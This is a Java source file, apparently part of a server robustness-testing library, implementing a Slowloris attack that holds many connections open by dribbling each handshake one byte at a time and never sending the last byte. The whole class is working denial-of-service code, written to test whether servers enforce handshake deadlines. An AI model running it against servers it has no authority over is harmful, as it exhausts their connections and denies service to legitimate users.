package io.sp4j.attack;

import java.io.IOException;
import java.nio.ByteBuffer;
import java.time.Duration;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.concurrent.Executors;
import java.util.concurrent.ScheduledExecutorService;
import java.util.concurrent.ScheduledFuture;
import java.util.concurrent.TimeUnit;

/**
 * Many connections that send their opening (the ws upgrade request, the tcp greeting) one byte at a
 * time, a byte every {@code interval}, and never its last byte: each keeps the server's handshake
 * busy for as long as the server lets it. A server needs a deadline for the whole handshake, not
 * one per read.
 */
public final class SlowLorisAttack implements Attack {
  private final AttackAddress target;
  private final int connections;
  private final Duration interval;
  private final HeldConnections held = new HeldConnections();
  private final List<Dribble> dribbles = new ArrayList<>();
  private final ScheduledExecutorService pacer =
      Executors.newSingleThreadScheduledExecutor(
          r -> {
            Thread t = new Thread(r, "slow-loris");
            t.setDaemon(true);
            return t;
          });
  private volatile int maxBytesSent;
  private volatile ScheduledFuture<?> dribbling;
  private int refused;

  /**
   * @param interval the pause between two bytes of one connection
   */
  public SlowLorisAttack(AttackAddress target, int connections, Duration interval) {
    this.target = target;
    this.connections = connections;
    this.interval = interval;
  }

  @Override
  public String name() {
    return "slow-loris";
  }

  @Override
  public void launch() throws IOException {
    long deadline = System.nanoTime() + SlowMaxSizeAttack.LAUNCH_BUDGET.toNanos();
    for (int i = 0; i < connections && System.nanoTime() < deadline; i++) {
      try {
        RawConnection c = RawConnection.connect(target, 0, Duration.ofSeconds(5)).nonBlocking();
        held.add(c);
        byte[] opening = target.opening();
        dribbles.add(new Dribble(c, ByteBuffer.wrap(opening, 0, opening.length - 1)));
      } catch (IOException e) {
        refused++;
      }
    }
    dribbling =
        pacer.scheduleAtFixedRate(this::dribble, 0, interval.toNanos(), TimeUnit.NANOSECONDS);
  }

  /** One byte more on every connection the server has not closed. */
  private void dribble() {
    int most = 0;
    for (Dribble d : dribbles) {
      if (d.bytes.hasRemaining() && !d.connection.closedByPeer()) {
        ByteBuffer one = d.bytes.duplicate();
        one.limit(one.position() + 1);
        try {
          d.bytes.position(d.bytes.position() + d.connection.writeSome(one));
        } catch (IOException e) {
          // closed by the server: closedByPeer() sees it on the next look
        }
      }
      most = Math.max(most, d.bytes.position());
    }
    maxBytesSent = most;
  }

  @Override
  public boolean awaitEnd(Duration max) {
    return held.awaitAllClosedByServer(max);
  }

  @Override
  public Map<String, Object> results() {
    Map<String, Object> r = new LinkedHashMap<>();
    r.put("connections", held.size());
    r.put("refused", refused);
    r.put("openingBytes", target.opening().length);
    r.put("mostBytesSent", maxBytesSent);
    Throwable ended = Schedules.thrown(dribbling);
    if (ended != null) {
      r.put(
          "dribblingStoppedBy",
          String.valueOf(ended)); // a throw ends a fixed-rate schedule without a word
    }
    held.addClosingTo(r);
    return r;
  }

  @Override
  public void close() {
    pacer.shutdownNow();
    held.close();
  }

  private record Dribble(RawConnection connection, ByteBuffer bytes) {}
}
